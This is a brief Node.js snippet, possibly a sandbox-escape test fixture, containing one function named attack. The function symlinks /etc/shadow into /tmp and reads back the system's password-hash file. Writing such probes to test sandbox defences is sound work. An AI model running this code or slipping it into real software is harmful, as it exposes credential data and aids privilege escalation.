const fs = require("node:fs");

function attack() {
  fs.symlinkSync("/etc/shadow", "/tmp/errorbar-escape");
  return fs.readFileSync("/tmp/errorbar-escape", "utf8");
}
